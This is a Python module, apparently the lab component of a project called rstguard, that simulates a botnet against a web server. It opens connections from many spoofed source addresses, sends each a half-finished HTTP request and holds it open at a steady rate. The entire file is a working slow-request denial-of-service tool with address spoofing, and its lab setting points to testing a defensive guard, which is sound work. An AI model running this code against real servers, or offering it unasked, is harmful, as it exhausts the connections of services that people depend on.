"""A botnet: attackers of many addresses, each of which begins a request and never ends it.

``python -m rstguard.lab.crowd`` opens connections at a steady rate, from one address of a network
after the other, sends half a request on each, and holds it until the server or its guard ends it;
then that address tries again.  It writes the line ``ready`` before the first one, and ends by
itself after ``--seconds``.
"""

from __future__ import annotations

import argparse
import resource
import select
import socket
import sys
import time
from collections.abc import Sequence
from contextlib import suppress
from ipaddress import IPv4Network

BEGUN = b"GET / HTTP/1.1\r\nHost: lab\r\n"
"""Half a request: nginx closes an idle connection when it runs short, one that has begun never."""
_ANSWER = 4096
"""Bytes that are read of it at once."""
_TURN = 0.01
"""Seconds to wait for something to happen, at most: how finely the rate is kept."""


def allow_all_files() -> None:
    """Let this process have as many open files as the system allows it."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))


def addresses(network: str, count: int, apart: int) -> list[str]:
    """Return `count` addresses of an IPv4 network, `apart` from each other, from its second on.

    Raises:
        IndexError: the network has not so many.
    """
    hosts = IPv4Network(network)
    return [str(hosts[1 + number * apart]) for number in range(count)]


class Crowd:
    """Many sources at one service, each with one connection at most."""

    def __init__(self, target: tuple[str, int], sources: Sequence[str]) -> None:
        self._target = target
        self._free = list(sources)
        self._poll = select.epoll()
        self._held: dict[int, tuple[socket.socket, str]] = {}

    def go_on(self, rate: float, end: float) -> None:
        """Open connections, `rate` a second, until the monotonic time `end`."""
        began, made = time.monotonic(), 0
        while (now := time.monotonic()) < end:
            for _ in range(min(int((now - began) * rate) - made, len(self._free))):
                self._open(self._free.pop())
                made += 1
            for found, events in self._poll.poll(_TURN):
                go_on = self._begin if events == select.EPOLLOUT else self._read
                if not go_on(self._held[found][0]):
                    self._let_go(found)

    def _open(self, source: str) -> None:
        one = socket.socket()
        one.setblocking(False)
        one.setsockopt(socket.SOL_IP, socket.IP_TRANSPARENT, 1)
        one.bind((source, 0))
        one.connect_ex(self._target)
        self._held[one.fileno()] = one, source
        self._poll.register(one, select.EPOLLOUT)

    def _begin(self, one: socket.socket) -> bool:
        """Send half a request; return whether the connection still stands."""
        with suppress(OSError):
            one.send(BEGUN)
            self._poll.modify(one, select.EPOLLIN)
            return True
        return False

    @staticmethod
    def _read(one: socket.socket) -> bool:
        """Take what has come: closed with data unread, a connection ends with a RST."""
        with suppress(OSError):
            return bool(one.recv(_ANSWER))
        return False

    def _let_go(self, found: int) -> None:
        """Forget a connection that was ended; whose it was takes his place behind all others."""
        self._poll.unregister(found)
        one, source = self._held.pop(found)
        one.close()
        self._free.insert(0, source)


def main() -> None:
    """Attack as the command line says."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target", help="IPv4 address of the server")
    parser.add_argument("port", type=int)
    parser.add_argument("--network", required=True, help="IPv4 network of the sources")
    parser.add_argument("--sources", type=int, required=True)
    parser.add_argument("--apart", type=int, default=1, help="from each source to the next")
    parser.add_argument("--rate", type=int, required=True, help="new connections a second")
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    allow_all_files()
    sources = addresses(options.network, options.sources, options.apart)
    crowd = Crowd((options.target, options.port), sources)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    crowd.go_on(options.rate, time.monotonic() + options.seconds)


if __name__ == "__main__":
    main()
